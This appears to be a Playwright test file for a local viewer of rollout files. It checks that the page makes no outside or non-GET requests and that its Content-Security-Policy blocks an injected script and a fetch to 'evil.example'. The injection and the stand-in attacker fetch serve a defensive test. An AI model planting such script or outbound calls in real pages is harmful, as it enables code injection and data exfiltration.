import { expect, test } from './support/app';
import { dropFiles } from './support/drop';
import { rolloutFile } from './support/rollouts';

test('the page asks for nothing but its own files, and sends nothing', async ({ page, server }) => {
  const requests: { method: string; url: string }[] = [];
  page.context().on('request', (request) => requests.push({ method: request.method(), url: request.url() }));
  await page.goto('/');
  const policy = page.locator('meta[http-equiv="Content-Security-Policy"]');
  await expect(policy).toHaveAttribute('content', /default-src 'none'/);

  await dropFiles(page, [{ name: 'apples.jsonl', text: rolloutFile(6) }]);
  await expect(page.getByRole('slider', { name: 'Step' })).toBeVisible();
  for (const key of ['j', 'J', '.', 'm', '2', '3', 't']) await page.keyboard.press(key);

  expect(requests.filter(({ method }) => method !== 'GET')).toEqual([]);
  const elsewhere = requests.filter(
    ({ url }) => !url.startsWith(`${server.origin}/`) && !url.startsWith('data:'),
  );
  expect(elsewhere).toEqual([]);
  // No call to the local server's own interface: this page was not opened with a token.
  expect(requests.filter(({ url }) => url.includes('/api/'))).toEqual([]);
});

test.describe('the policy', () => {
  test.use({ expectedErrors: /Content Security Policy|evil\.example/i });

  test('script that got into the page anyway would not run, and could not send', async ({ page }) => {
    await page.goto('/');
    const refused = await page.evaluate(async () => {
      const violations: string[] = [];
      document.addEventListener('securitypolicyviolation', (event) =>
        violations.push(event.effectiveDirective),
      );
      const script = document.createElement('script');
      script.textContent = 'window.pwned = true';
      document.body.append(script);
      await fetch('https://evil.example/').catch(() => undefined);
      await new Promise((resolve) => setTimeout(resolve, 50));
      return violations;
    });
    expect(refused).toContain('connect-src');
    expect(refused.some((directive) => directive.startsWith('script-src'))).toBe(true);
    expect(await page.evaluate(() => 'pwned' in window)).toBe(false);
  });
});
